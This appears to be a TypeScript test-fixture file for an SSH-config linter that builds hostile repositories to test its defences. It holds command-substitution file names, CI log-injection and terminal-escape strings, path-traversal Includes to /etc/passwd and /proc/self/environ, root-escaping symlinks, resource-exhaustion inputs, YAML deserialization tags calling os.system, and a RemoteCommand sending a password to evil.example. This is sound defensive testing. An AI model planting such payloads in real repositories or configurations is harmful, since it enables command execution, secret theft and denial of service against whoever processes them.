/**
 * Repositories that a stranger made to harm who lints them. They are built when a test runs, for git holds no FIFO, no
 * device and no file of 200 MB.
 */
import { execFileSync } from 'node:child_process';
import { ftruncateSync, mkdirSync, openSync, closeSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { makeFolder } from './folder.ts';

/** What must be read, and so told, by no run: it lies outside of the root, in `.git` or in the environment. */
export const canaries = ['canary-outside', 'canary-git', 'canary-environment'] as const;

/** What looks like a secret within the files: it must be told by no report. */
export const secret = 'hunter2-canary';

/** The name of a file that every command below would make. */
export const trace = 'executed';

const run = `touch ${trace}`;

/** Names of folders, each with a server's file in it. Latin-1, one character a byte. */
const folderNames: readonly string[] = [
  'line\nbreak',
  'line\r\nbreak',
  '\n::add-mask::name',
  '::add-mask::name',
  ' ::error file=x::name',
  '##[add-mask]name',
  '##vso[task.setvariable variable=x]name',
  'esc\x1b[2J\x1b]0;title\x07',
  'c1\xc2\x9b31m',
  'bidi\xe2\x80\xae\xe2\x81\xa6',
  'mark\xef\xbb\xbf',
  'separator\xe2\x80\xa8',
  '-rf',
  '--fix',
  '-',
  '*',
  '[ab]{c,d}?(e)',
  '**',
  '~',
  '$(touch executed)',
  '`touch executed`',
  ';touch executed;',
  '%0A::error::name',
  '%2e%2e',
  'a,b:c=d',
  '<script>alert(1)<',
  '"onload="',
  "it's",
  'back\\slash\\n',
  '|cell|',
  '`code`',
  '[x](http:',
  '@user #1',
  '\xff\xfe',
  '\xc3',
  ' ',
  'end ',
  '{{ 7*7 }}',
  '${HOME}',
  'name.git',
  'n'.repeat(250),
];

/** Lines that a runner, a terminal, a browser or a shell would act upon; most of them are findings. */
const lines: readonly string[] = [
  '\xef\xbb\xbf',
  '# ::add-mask::comment every 60 seconds \x1b[31m \xe2\x80\xae ##[add-mask]60',
  'ClientAliveInterval 298',
  '::add-mask::line',
  '  ::set-output name=x::line',
  '\xc2\xa0::error::line',
  '##[add-mask]line 1',
  '##vso[task.complete result=Failed;]line',
  'a\r::add-mask::after-return',
  'Banner ##[group]value',
  '\x1b]0;title\x07\x1b[2J 1',
  'Port\x1b[31m 22',
  'Bidi\xe2\x80\xaeKeyword\xe2\x81\xa6 x',
  'Nul\0Keyword \0',
  'Latin\xff\xfe\xe9 \xff',
  'Html<script>alert(1)</script> "</code>]]>&lt;',
  'Xml\x01\x08\xef\xbf\xbe &#x1b;',
  'Markdown|x|`y`[z](http://evil.example) @user #1 :tada: <img src=x>',
  'Uri%0A%0D{0}${HOME}](1) x',
  `Subshell$(${run}) \`${run}\``,
  'ForceCommand /bin/sh -c "touch executed"',
  `SetEnv API_TOKEN=${secret} PASSWORD=${secret}`,
  `SetEnvv API_TOKEN=${secret}`,
  `AuthorizedKeysCommand /bin/keys --password ${secret} --token=${secret}`,
  'Match exec "touch executed"',
  '  Port 22',
  '# ssh-lint-disable-next-line ::error::x, no-\x1b[31m, \xe2\x80\xae -- ::add-mask::reason \x1b[0m',
  'Include "\x1b[31m/*" ::error:: ##[x]',
  'KexAlgorithms \xff,\x1b,::error::',
  'X'.repeat(100_000),
  `Quote "${'\\'.repeat(1000)}`,
  'ClientAliveCountMax 0',
];

const client: readonly string[] = [
  'Host \x1b[31m ::error:: ##[x] *',
  `  ProxyCommand ${run}; sshpass -p ${secret} ssh %h`,
  `  LocalCommand ${run}`,
  '  PermitLocalCommand yes',
  `  KnownHostsCommand /bin/sh -c "${run}"`,
  `  RemoteCommand curl -u user:${secret} https://user:${secret}@evil.example`,
  `Match exec "${run}"`,
  `  SetEnv API_TOKEN=${secret}`,
  `Match !exec "\`${run}\`"`,
  '  ServerAliveInterval 5 # every 60 seconds ::add-mask::x',
];

/** Includes that lead to what must not be read. */
const escapes: readonly string[] = [
  'Include ../outside/secret',
  'Include /../../../../../../../../../etc/passwd',
  'Include ../../../../../../../../../../proc/self/environ',
  'Include /proc/self/environ /etc/passwd /dev/stdin /dev/zero',
  'Include .git/config ../.git/config /.git/config',
  'Include ~/../../../etc/passwd ~root/x ${HOME}/.ssh/config %h',
  'Include linked/secret linked-folder/* to-environment to-git',
  'Include */*/*/*/*/*/*/*/*/*/*/*',
];

function bytes(text: readonly string[]): Buffer {
  return Buffer.from(`${text.join('\n')}\n`, 'latin1');
}

/** A path whose name is bytes. */
function path(...parts: readonly string[]): Buffer {
  return Buffer.from(parts.join('/'), 'latin1');
}

/** A folder of two: the repository, and beside it what lies outside of it. */
function makePair(): { readonly root: string; readonly outside: string } {
  const parent = makeFolder({
    'outside/secret': 'ClientAliveInterval canary-outside\n',
    'outside/x.conf': 'ClientAliveInterval canary-outside\n',
    'outside/.ssh-lint.yaml': 'canary-outside: 1\n',
    'repository/.git/HEAD': 'ref: refs/heads/main\n',
    'repository/.git/config': '[http]\n\textraheader = canary-git\n',
  });
  return { root: join(parent, 'repository'), outside: join(parent, 'outside') };
}

/** Names and contents that mean harm; every file can be read. */
export function contentsRepository(): string {
  const { root } = makePair();
  for (const name of folderNames) {
    mkdirSync(path(root, name));
    writeFileSync(path(root, name, 'sshd_config'), bytes(['ClientAliveInterval 298 # 60', ...escapes]));
  }
  writeFileSync(path(root, 'sshd_config'), bytes(lines));
  writeFileSync(path(root, 'sshd_config.crlf'), bytes(lines.map((line) => `${line}\r`)));
  mkdirSync(join(root, '.ssh'));
  writeFileSync(path(root, '.ssh/config'), bytes([...client, ...lines, ...escapes]));
  writeFileSync(
    join(root, '.gitignore'),
    `${'**/a/'.repeat(30)}b\n${'*a'.repeat(100)}\n!${'['.repeat(200)}\n\\\n!\n/\n`,
  );
  return root;
}

/** Links, FIFOs, devices, what is too large, and what never ends. */
export function filesRepository(): string {
  const { root, outside } = makePair();
  const link = (target: string, ...names: readonly string[]): void => {
    mkdirSync(join(root, ...names, '..'), { recursive: true });
    symlinkSync(target, join(root, ...names));
  };
  link(join(outside, 'secret'), 'absolute', 'sshd_config');
  link('../../outside/secret', 'relative', 'sshd_config');
  link('/proc/self/environ', 'proc', 'sshd_config');
  link('/proc/self/fd/0', 'stdin', 'sshd_config');
  link('../.git/config', 'git', 'sshd_config');
  link('/dev/zero', 'zero', 'sshd_config');
  link('.', 'itself', 'sshd_config');
  link('sshd_config', 'circle', 'sshd_config');
  link('nowhere', 'nowhere', 'sshd_config');
  link(outside, 'folder', 'sshd_config.d');
  link('/etc', 'system', 'ssh');
  link('/', 'all', 'etc');
  link('..', 'up', 'ssh_config.d');
  for (let at = 0; at < 60; at++) link(`sshd_config.${at + 1}`, 'chain', `sshd_config.${at}`);
  link(outside, '.ssh', 'linked');
  link(join(outside, 'secret'), '.ssh', 'to-outside');
  link('/proc/self/environ', '.ssh', 'to-environment');
  link('../.git/config', '.ssh', 'to-git');
  link(outside, '.ssh', 'linked-folder');
  writeFileSync(join(root, '.ssh/config'), bytes(escapes));
  mkdirSync(join(root, 'fifo'));
  execFileSync('mkfifo', [join(root, 'fifo/sshd_config'), join(root, 'fifo/.gitignore'), join(root, '.ssh/fifo')]);
  mkdirSync(join(root, 'device'));
  // Only root makes devices; the link to one above stands for them elsewhere.
  if (process.geteuid?.() === 0) execFileSync('mknod', [join(root, 'device/sshd_config'), 'c', '1', '5']);
  const big = openSync(join((mkdirSync(join(root, 'big')), root), 'big/sshd_config'), 'w');
  ftruncateSync(big, 200 * 1024 * 1024);
  closeSync(big);
  writeFileSync(join(root, 'sshd_config'), 'ClientAliveInterval 298 # 60\n');
  return root;
}

/** Includes by the thousand, in circles, and folders that hold themselves. */
export function includesRepository(): string {
  const { root } = makePair();
  const add = (name: string, text: string): void => {
    mkdirSync(join(root, name, '..'), { recursive: true });
    writeFileSync(join(root, name), text);
  };
  add('one/.ssh/config', Array.from({ length: 10_000 }, (_, at) => `Include missing/${at}\n`).join(''));
  add('same/.ssh/config', 'Include part\n'.repeat(10_000));
  add('same/.ssh/part', 'Port 22\n');
  add('star/.ssh/config', 'Include config.d/*\n'.repeat(10));
  for (let at = 0; at < 300; at++) add(`star/.ssh/config.d/${at}`, `Include ${at + 1}\nPort ${at}\n`);
  add('cycle/.ssh/config', 'Include a\n');
  add('cycle/.ssh/a', 'Include b\nPort 1\n');
  add('cycle/.ssh/b', 'Include a config\nPort 2\n');
  add('deep/.ssh/config', 'Include 1\n');
  for (let at = 1; at < 40; at++) add(`deep/.ssh/${at}`, `Include ${at + 1}\nInclude ${at + 1}\n`);
  add('tree/.ssh/config', 'Include */*/*/*/*/*/*/*/*/*\nInclude **/**/**/**/**\n');
  for (let at = 0; at < 20; at++) symlinkSync('.', join(root, `tree/.ssh/again${at}`));
  mkdirSync(join(root, 'links'));
  add('links/real/ssh_config', 'Host *\n    ServerAliveInterval 60\n');
  for (let at = 0; at < 2000; at++) symlinkSync('real/ssh_config', join(root, `links/ssh_config.${at}`));
  add('.gitignore', Array.from({ length: 200 }, (_, at) => `**/a/**/a/*b*c*d${at}\n`).join(''));
  add(`${'a/'.repeat(500)}sshd_config`, 'ClientAliveInterval 60\n');
  return root;
}

/** Configurations of ssh-lint that mean harm, by name; each is the text of a `.ssh-lint.yaml`. */
export const configurations: Readonly<Record<string, string>> = {
  'anchors and aliases': 'rules: &a { no-zero-count: off }\noverrides: [{ files: [x], rules: *a }]\n',
  'a billion laughs': [
    'a: &a [x, x, x, x, x, x, x, x, x]',
    ...'bcdefghi'.split('').map((name, at) => {
      return `${name}: &${name} [${Array(9).fill(`*${'abcdefghi'[at]}`).join(', ')}]`;
    }),
  ].join('\n'),
  'tags that make objects':
    'rules: !!js/function "function(){ touch }"\nx: !!python/object/apply:os.system ["touch executed"]\n',
  'nesting in brackets': '['.repeat(200_000),
  'nesting in braces': '{a: '.repeat(60_000),
  'nesting by indents': Array.from({ length: 700 }, (_, depth) => `${' '.repeat(depth)}a:`).join('\n'),
  'a megabyte': `# ${'x'.repeat(1024 * 1024)}\n`,
  'a list without end': `ignores:\n${'- a\n'.repeat(60_000)}`,
  prototypes: '__proto__: { openssh: "1" }\nconstructor: { prototype: {} }\n',
  'names that mean harm': 'rules: { "::add-mask::x\\e[31m\\u202e##[x]": off }\n',
  'extends out of the root': 'extends: ../outside/.ssh-lint.yaml\n',
  'extends of a device': 'extends: ../../../../../../../../dev/zero.yaml\n',
  'extends of itself': 'extends: ./.ssh-lint.yaml\n',
  'a pattern of stars': `ignores: ["${'*a'.repeat(100)}"]\n`,
};

/** A repository with one of the configurations. */
export function configuredRepository(text: string): string {
  const { root } = makePair();
  writeFileSync(join(root, '.ssh-lint.yaml'), text);
  writeFileSync(join(root, 'sshd_config'), 'ClientAliveInterval 298 # 60\n');
  return root;
}
